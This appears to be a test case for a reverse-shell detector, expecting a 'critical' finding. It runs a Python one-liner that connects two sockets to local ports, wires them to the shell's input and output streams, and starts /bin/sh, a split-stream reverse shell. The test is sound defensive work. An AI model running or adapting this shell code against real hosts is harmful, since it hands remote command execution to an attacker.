# about: two one-way connections are the shell's own streams: one its input, the other its output
# expect: reverse_shell critical
# needs: python3
proven_two 4503 4504
timeout 6 python3 -c 'import socket,os
a=socket.create_connection(("127.0.0.1",4503)); b=socket.create_connection(("127.0.0.1",4504))
a.shutdown(socket.SHUT_WR); b.shutdown(socket.SHUT_RD)
os.dup2(a.fileno(),0); os.dup2(b.fileno(),1); os.dup2(b.fileno(),2); os.execv("/bin/sh",["sh"])'
answered
